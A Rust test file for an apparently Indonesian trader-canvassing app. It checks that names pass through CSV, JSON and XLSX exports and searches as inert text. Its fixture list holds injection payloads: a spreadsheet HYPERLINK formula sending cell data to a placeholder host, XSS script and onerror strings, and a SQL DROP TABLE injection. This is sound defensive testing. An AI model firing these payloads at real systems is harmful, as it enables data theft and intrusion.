//! Names that are formulas, markup, SQL or scripts pass through every door as text.

use serde_json::Value;
use whole_system_tests::accounts::csv_rows;
use whole_system_tests::answer::ValueExt;
use whole_system_tests::{Office, Tablet, assert_in_step, spreadsheet};

const ODD: [&str; 20] = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
    "+62811000",
    "-1+1",
    "@SUM(A1)",
    "\u{ff1d}1+1",
    "http://x.invalid/a",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "Robert'); DROP TABLE trader;--",
    "100%_\\",
    "\"a\" OR *",
    "NEAR(a b)",
    "Bu \"Yayuk\", koma; titik",
    "baris satu\nbaris dua",
    "Siti 🧕🏽 Kerupuk",
    "ꦱꦶꦠꦶ",
    "سيتي",
    "\u{202e}kilab amaN",
    "Zubaedah\u{301}\u{301}\u{301}",
    "null",
];

fn office_with_odd_names() -> (Office, Tablet, Vec<String>) {
    let office = Office::new();
    let tablet = office.canvasser("<b>Ade</b> =1+1", "KNM");
    let mut names: Vec<String> = ODD.map(str::to_owned).into();
    names.push("P".repeat(200));
    for (number, name) in names.iter().enumerate() {
        let id = tablet.add_trader("KNM", &format!("={number}"), name);
        tablet.json(&[
            "consent",
            &id,
            "--purpose",
            "ekspor_bernama",
            "--answer",
            "yes",
        ]);
        tablet.visit_with(&id, "mengajar", &["--note", name]);
    }
    tablet.settle();
    (office, tablet, names)
}

#[test]
fn odd_names_pass_through_every_export_as_text() {
    let (office, tablet, names) = office_with_odd_names();
    assert_in_step(&tablet, &office);
    let mut expected: Vec<String> = names.clone();
    expected.sort();
    let stored = |records: Vec<Value>| {
        let mut found: Vec<String> = records
            .iter()
            .map(|trader| trader["name"].text().to_owned())
            .collect();
        found.sort();
        found
    };
    assert_eq!(stored(office.records("trader")), expected);
    assert_eq!(stored(tablet.records("trader")), expected);

    let named = ["--named", "--why", "uji ekspor"];
    let (answer, bytes) = office.export("traders", "csv", &named);
    let text = String::from_utf8(bytes).expect("UTF-8");
    let rows = csv_rows(&text);
    assert_eq!(answer["rows"].number() as usize, names.len());
    let column = rows[0]
        .iter()
        .position(|name| name == "name")
        .unwrap_or_else(|| panic!("{:?}", rows[0]));
    let mut read = Vec::new();
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "a formula: {cell:?}"
            );
        }
        read.push(
            row[column]
                .strip_prefix('\'')
                .unwrap_or(&row[column])
                .to_owned(),
        );
    }
    read.sort();
    assert_eq!(read, expected, "a strict reader gets every name back");

    for format in ["json", "ndjson"] {
        let (_, bytes) = office.export("traders", format, &named);
        let text = String::from_utf8(bytes).expect("UTF-8");
        for name in &names {
            let quoted = Value::from(name.as_str());
            let found = text
                .lines()
                .any(|line| serde_json::from_str(line).is_ok_and(|row: Value| has(&row, &quoted)));
            let whole = serde_json::from_str::<Value>(&text).is_ok_and(|all| has(&all, &quoted));
            assert!(found || whole, "{format}: {name:?}");
        }
    }

    let (_, bytes) = office.export("traders", "xlsx", &named);
    let (rows, formulas) = spreadsheet::read(&bytes);
    assert_eq!(formulas, Vec::<String>::new());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for name in &names {
        assert!(cells.contains(&name), "xlsx: {name:?}");
    }
    for what in ["visits", "funnel"] {
        let (_, bytes) = office.export(what, "xlsx", &[]);
        assert_eq!(spreadsheet::read(&bytes).1, Vec::<String>::new(), "{what}");
    }
    // The workbook's own sums and shares are formulas over its cells; nobody's text is part of one.
    let (_, bytes) = office.export("workbook", "xlsx", &[]);
    for formula in spreadsheet::read(&bytes).1 {
        let cells_only = formula.replace("SUMIF", "");
        assert!(
            cells_only
                .chars()
                .all(|c| "ABCDEFGHI0123456789$:/,()".contains(c)),
            "{formula}"
        );
    }
}

fn has(value: &Value, wanted: &Value) -> bool {
    match value {
        Value::Array(list) => list.iter().any(|part| has(part, wanted)),
        Value::Object(map) => map.values().any(|part| has(part, wanted)),
        other => other == wanted,
    }
}

#[test]
fn an_export_without_names_holds_no_name_no_id_and_no_register_number() {
    let (office, tablet, _) = office_with_odd_names();
    let ids: Vec<String> = tablet
        .traders()
        .iter()
        .map(|trader| trader["id"].text().to_owned())
        .collect();
    for what in ["traders", "visits", "funnel", "points"] {
        for format in ["csv", "json", "ndjson"] {
            if what == "points" && format == "csv" {
                continue;
            }
            let (_, bytes) = office.export(what, format, &[]);
            let text = String::from_utf8_lossy(&bytes).into_owned();
            for word in ids
                .iter()
                .map(String::as_str)
                .chain(["DROP TABLE", "onerror", "ꦱꦶꦠꦶ"])
            {
                assert!(!text.contains(word), "{what}.{format}: {word}");
            }
        }
    }
}

#[test]
fn the_same_instant_exports_the_same_bytes() {
    let (office, tablet, names) = office_with_odd_names();
    let (first, bytes) = office.export("visits", "csv", &[]);
    let as_of = first["as_of"].text().to_owned();
    tablet.visit(&tablet.trader_named(&names[0]), "tutup");
    tablet.settle();
    for format in ["csv", "ndjson", "xlsx"] {
        let one = office.export("visits", format, &["--as-of", &as_of]).1;
        let two = office.export("visits", format, &["--as-of", &as_of]).1;
        assert_eq!(one, two, "{format}");
    }
    assert_eq!(
        office.export("visits", "csv", &["--as-of", &as_of]).1,
        bytes,
        "as it was known then"
    );
    assert_ne!(office.export("visits", "csv", &[]).1, bytes);
}

#[test]
fn odd_searches_find_what_is_there_and_nothing_breaks() {
    let (_office, tablet, names) = office_with_odd_names();
    for name in names.iter().map(String::as_str).chain([
        "'", "\"", "*", "(", ")", "%", "a AND", "NOT", "^x", "{}:", "",
    ]) {
        tablet.json(&["traders", "--search", name, "--limit", "50"]);
    }
    let found = tablet.json(&["traders", "--search", "Robert DROP"]);
    assert_eq!(
        found[0]["name"], "Robert'); DROP TABLE trader;--",
        "{found}"
    );
}

#[test]
fn too_long_a_text_is_refused_with_the_limit_named() {
    let office = Office::new();
    let tablet = office.canvasser("Ade Nugraha", "KNM");
    let long = "x".repeat(201);
    let refused = tablet.ask(&[
        "add-trader",
        "--market",
        "KNM",
        "--stall",
        "1",
        "--name",
        &long,
    ]);
    refused.failure();
    assert!(refused.stderr.contains("200"), "{refused}");
    let id = tablet.add_trader("KNM", "1", "Lasmi");
    let note = "é".repeat(2_001);
    let refused = tablet.ask(&["visit", &id, "--outcome", "tutup", "--note", &note]);
    refused.failure();
    assert!(
        refused.stderr.contains("2,000") || refused.stderr.contains("2000"),
        "{refused}"
    );
    assert_eq!(tablet.status()["visits"]["recorded"], 0);
    tablet.visit_with(&id, "tutup", &["--note", &"é".repeat(2_000)]);
    tablet.settle();
    assert_eq!(
        office.totals()["counted"],
        1,
        "characters are counted, not bytes"
    );
}

#[test]
fn a_search_forgives_spelling_and_one_wrong_letter() {
    let office = Office::new();
    let tablet = office.canvasser("Ade Nugraha", "KNM");
    let id = tablet.add_trader("KNM", "Blok C No. 7", "Ibu Rokayah");
    tablet.set(&id, &["phone=0840-0012-3456"]);
    let other = tablet.add_trader("KNM", "Blok D 1", "Djunaedi");
    let finds = |query: &str| -> Vec<String> {
        let found = tablet.json(&["traders", "--search", query]);
        let ids = found
            .list()
            .iter()
            .map(|trader| trader["id"].text().to_owned());
        ids.collect()
    };
    for query in [
        "rokay blok c",
        "Rokayah",
        "rokaya",
        "rukayah",
        "roekayah",
        "rokajah",
        "rokayeh",
        "bu rokayah",
        "c 7 rokayah",
        "blok c no 7",
        "0840-0012-3456",
        "+62 840 0012 3456",
        "3456",
        "0840 0012",
        "rokay 3456",
    ] {
        assert_eq!(finds(query), [id.as_str()], "{query}");
    }
    for query in ["junaedi", "Djoenaedi", "djunaidi", "blok d"] {
        assert_eq!(finds(query), [other.as_str()], "{query}");
    }
    for query in ["rokay blok d", "zulkarnaen", "9999"] {
        assert_eq!(finds(query), Vec::<String>::new(), "{query}");
    }
}
